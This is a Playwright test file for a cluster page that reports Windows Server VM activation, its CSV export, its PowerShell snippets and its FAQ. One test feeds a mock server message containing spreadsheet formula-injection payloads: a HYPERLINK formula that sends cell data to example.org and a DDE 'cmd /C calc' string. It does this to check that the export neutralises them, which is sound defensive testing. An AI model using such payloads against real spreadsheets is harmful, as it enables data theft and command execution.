import { readFile } from 'node:fs/promises';
import { parse } from 'papaparse';
import { lookAt } from './fixtures/look-at';
import { expect, openOnce, test } from './fixtures/test';
import { scriptCalls } from './lab-calls';
import { keyOf } from './lab-keys';

const modules = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules';
const oneServer = 'On one server';
const statusOfAll = 'Check all servers';
const keysForAll = 'Apply a key to each server';

/** Each question of the article's own FAQ, with its place on the page and the expected answer. */
const faq: { asked: string; question: string; says: RegExp }[] = [
  {
    asked: 'What happens if I add or remove a new server?',
    question: 'What happens when I add, remove, replace, or reinstall a server?',
    says: /Add: The new server needs its own key.*Remove: The other servers aren’t affected/
  },
  {
    asked: 'Does it work in disconnected scenarios?',
    question: 'Does it work without internet access, or behind a proxy?',
    says: /VMs don’t need internet access, but the servers do/
  },
  {
    asked: 'Can I run Windows Server 2016 VMs?',
    question: 'Can I run Windows Server 2016 VMs?',
    says: /Yes\. Windows Server 2019 or later keys on the servers activate Windows Server 2016 VMs.*You can’t apply a Windows Server 2016 key to a server here/
  },
  {
    asked: 'Can I use the key of a WSSD solution?',
    question: 'I have a Windows Server 2019 key from a Software-Defined (WSSD) solution. Can I use it?',
    says: /Yes.*isn’t in use on another system, unless it’s a volume license key/
  },
  {
    asked: 'Will my Windows Server 2022 guests activate?',
    question: 'Can I activate Windows Server 2022 and 2025 VMs?',
    says: /2022 VMs need a 2022 or later key/
  }
];

test.describe('A cluster that is set up', () => {
  const visit = openOnce({
    scenario: 'healthy',
    permissions: ['clipboard-read', 'clipboard-write']
  });

  test('a healthy one: all servers activated, with their key’s version and last five', async () => {
    const { activation, lab } = visit;
    const settings = activation.page.getByRole('navigation', { name: 'Settings' });
    const entry = settings.getByRole('link', { name: 'Activate Windows Server VMs (community)', exact: true });
    await expect(entry).toHaveAttribute('aria-current', 'page');
    await expect(entry.locator('img')).toHaveJSProperty('naturalWidth', 128);
    await expect(activation.summary).toHaveText('All 4 servers can activate VMs (Windows Server 2022 keys).');
    for (const { name, lastFive } of lab.state().servers) {
      await expect(activation.row(name)).toContainText('Activated');
      await expect(activation.row(name)).toContainText('2022');
      await expect(activation.row(name)).toContainText(lastFive ?? 'no key');
    }
  });

  test('its export has everything that the table shows, in a file for spreadsheets', async () => {
    const { activation, lab } = visit;
    const begun = Date.now();
    const [download] = await Promise.all([
      activation.page.waitForEvent('download'),
      activation.action('Export').click()
    ]);
    expect(download.suggestedFilename()).toMatch(/^activation-cluster01\.contoso\.com-\d{4}-\d\d-\d\d\.csv$/);
    const text = await readFile(await download.path(), 'utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    const { data: rows, errors } = parse<Record<string, string>>(text, { header: true });
    expect(errors).toEqual([]);
    const { keys, servers } = lab.state();
    expect(rows.map(row => [row['Cluster'], row['Full name'], row['Activation'], row['Key ends in']])).toEqual(
      servers.map(server => ['cluster01.contoso.com', `${server.name}.contoso.com`, 'Activated', server.lastFive])
    );
    const kinds: Record<string, string> = { mak: 'Volume', oem: 'OEM', retail: 'Retail' };
    for (const row of rows) {
      const used = keys.find(({ key }) => key.endsWith(row['Key ends in']));
      expect([row['State'], row['Key version'], row['Key type']]).toEqual([
        'Up',
        `${used?.version}`,
        kinds[used?.kind ?? '']
      ]);
      expect(row['Checked at']).toMatch(/T\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
      expect(Math.abs(new Date(row['Checked at']).getTime() - begun)).toBeLessThan(120_000);
    }
    for (const { key } of keys) {
      expect(text).not.toContain(key);
    }
  });

  test('no text is cut off at any width', async () => {
    const { activation } = visit;
    await expect(activation.summary).toContainText('All 4 servers');
    await lookAt(activation, 'servers');
  });

  test('a server’s answer can be copied, in plain words and unchanged', async () => {
    const { activation, lab } = visit;
    const server = lab.state().servers[1];
    await activation.row('node02').click();
    const details = activation.details('node02');
    await expect(details).toContainText(`Windows Server 2022, Volume, ends in ${server.lastFive}`);
    await expect(details).toContainText('ServerAVMAManager 1.1');
    await expect(details).toContainText('Microsoft Azure Stack HCI 22H2 (build 20349.2322)');
    await details.getByText('Raw response').click();
    await expect(details.locator('pre')).toContainText('"ActivationStatus": "Activated"');
    await activation.expectAccessible();

    await details.getByRole('button', { name: 'Copy details' }).click();
    await expect(details.getByRole('status')).toHaveText('Details copied.');
    const copied = await activation.clipboard();
    expect(copied).toContain('node02\nState: Activated');
    expect(copied).toContain('"ActivationStatus": "Activated"');
  });

  test.describe('View PowerShell', () => {
    test('by mouse: the commands, with this cluster’s servers, can be copied', async () => {
      const { activation, lab } = visit;
      await expect(activation.summary).toContainText('All 4 servers');
      await activation.action('View PowerShell').click();
      const { commands } = activation;
      await expect(commands.root).toContainText('include all 4 servers in this cluster.');
      await activation.expectAccessible();

      await commands.copy(oneServer).click();
      await expect(commands.block(oneServer).getByRole('status')).toHaveText('Copied');
      expect(await activation.clipboard()).toBe(
        [
          "$module = 'ServerAVMAManager'",
          'if (-not (Get-Module -Name $module -ListAvailable)) {',
          `    $module = '${modules}\\ServerAVMAManager\\ServerAVMAMAnager.psm1'`,
          '}',
          'Import-Module -Name $module -ErrorAction Stop',
          "Set-VMAutomaticActivation -ProductKey '<product key>'",
          'Get-VMAutomaticActivation'
        ].join('\n')
      );

      await commands.copy(statusOfAll).click();
      await expect(commands.block(statusOfAll).getByRole('status')).toHaveText('Copied');
      const status = await activation.clipboard();
      await commands.copy(keysForAll).click();
      await expect(commands.block(keysForAll).getByRole('status')).toHaveText('Copied');
      const keys = await activation.clipboard();
      for (const { name } of lab.state().servers) {
        expect(status).toContain(`    '${name}.contoso.com'\n`);
        expect(keys).toContain(`    '${name}.contoso.com' = '<product key>'\n`);
      }
      expect(status).toContain('Invoke-Command -ComputerName $servers');
      await expect(commands.block(keysForAll)).toContainText('PowerShell’s history might keep what you type');
      await commands.close();
      await expect(activation.action('View PowerShell')).toBeFocused();
    });

    test('by keyboard alone: the focus goes into the pane and comes back', async () => {
      const { activation } = visit;
      const { page } = activation;
      await expect(activation.summary).toContainText('All 4 servers');
      const { commands } = activation;
      await activation.action('View PowerShell').focus();
      await page.keyboard.press('Enter');
      await expect(commands.root.locator(':focus')).toHaveCount(1);
      for (const title of [oneServer, statusOfAll, keysForAll]) {
        await page.keyboard.press('Tab');
        await expect(commands.block(title).locator('pre')).toBeFocused();
        await page.keyboard.press('Tab');
        await expect(commands.copy(title)).toBeFocused();
        await page.keyboard.press('Enter');
        await expect(commands.block(title).getByRole('status')).toHaveText('Copied');
        // Copying takes the focus for a moment.
        await expect(commands.copy(title)).toBeFocused();
      }
      await page.keyboard.press('Escape');
      await expect(commands.root).toBeHidden();
      await expect(activation.action('View PowerShell')).toBeFocused();
    });
  });

  test.describe('Questions and answers', () => {
    test.beforeEach(() => visit.activation.openHelp());

    test('answer each question in the article, starting with only the page', async () => {
      const { activation } = visit;
      await activation.expectAccessible();
      for (const { asked, question, says } of faq) {
        await activation.help.question(question).click();
        await expect(activation.help.answer(question), asked).toHaveText(says);
      }
      const otherWays = activation.help
        .answer('Can I run Windows Server 2016 VMs?')
        .getByRole('link', { name: 'Other ways to activate Windows Server' });
      await expect(otherWays).toHaveAttribute('target', '_blank');
      await expect(otherWays).toHaveAttribute('rel', 'noopener noreferrer');
    });

    test('explain what it is, which guests it covers, and what the messages mean', async () => {
      const { activation } = visit;
      await activation.help.question('What does automatic activation do?').click();
      const whatItDoes = activation.help.answer('What does automatic activation do?');
      await expect(whatItDoes).toContainText('tied to that server, not to the VM’s own key');
      await expect(whatItDoes.getByRole('link')).toHaveText([
        /^Automatic Virtual Machine Activation/,
        /^Windows Server pricing and licensing/,
        /^Other ways to activate Windows Server/
      ]);
      await activation.help.question('Which keys activate which VMs?').click();
      const guests = activation.help.answer('Which keys activate which VMs?');
      await expect(guests.getByRole('row', { name: /^2022/ })).toHaveText(/No\s*Yes\s*Yes\s*Yes/);
      await expect(guests).toContainText('Datacenter, Standard, and Essentials');
      await activation.help.question('What do the messages mean?').click();
      await expect(activation.help.answer('What do the messages mean?')).toContainText(
        '“Some servers use keys for an older version of Windows Server.”'
      );
      await activation.help.question('Why might I see two entries for activating Windows Server VMs?').click();
      await expect(
        activation.help.answer('Why might I see two entries for activating Windows Server VMs?')
      ).toContainText('each shows what the other did');
    });
  });

  test('The export is safe, whatever a server says: no formula, no key', async () => {
    const { activation, lab } = visit;
    const key = keyOf(lab, 'mak', 2025);
    await lab.reinstallServer('node02');
    await lab.changeServer('node02', {
      statusErrorText: `=HYPERLINK("http://example.org/?"&A1)\r\n+cmd|' /C calc'!A0;=1+1 Schlüssel ${key}`
    });
    await activation.refresh();
    await expect(activation.row('node02')).toContainText('Couldn’t check');
    const [download] = await Promise.all([
      activation.page.waitForEvent('download'),
      activation.action('Export').click()
    ]);
    const text = await readFile(await download.path(), 'utf8');
    const { data: rows } = parse<Record<string, string>>(text, { header: true });
    expect(rows.length).toBe(4);
    const [, { 'The server’s message': said, 'What happened': what }] = rows;
    expect(said).toContain('HYPERLINK');
    expect(said).toContain(`Schlüssel *****-*****-*****-*****-${key.slice(-5)}`);
    expect(said).toContain(";'=1+1");
    for (const line of `${what}\n${said}`.split(/[\r\n;]+/)) {
      expect(line).not.toMatch(/^[\s"]*[=+\-@]/);
    }
    expect(text).not.toContain(key.slice(0, 5));
    expect(text).not.toContain(key.replace(/-/g, ''));
  });
});

test('Rows fill as answers come: a slow server delays no one, and keeps its row while it’s read again', async ({
  activation,
  lab
}) => {
  await lab.setScenario('healthy');
  await lab.changeServer('node02', { latencyMs: 4_000 });
  await activation.openAsItIs();
  await expect(activation.row('node01')).toContainText('Activated');
  await expect(activation.row('node02')).toContainText('Checking…');
  await expect(activation.row('node02')).toContainText('Activated');

  lab.clearAudit();
  await activation.action('Refresh').click();
  await expect(activation.action('Refresh')).toBeDisabled();
  await expect(activation.row('node02')).toContainText('Activated');
  await expect(activation.action('Refresh')).toBeEnabled();
  expect(scriptCalls(lab).length).toBe(5);
});
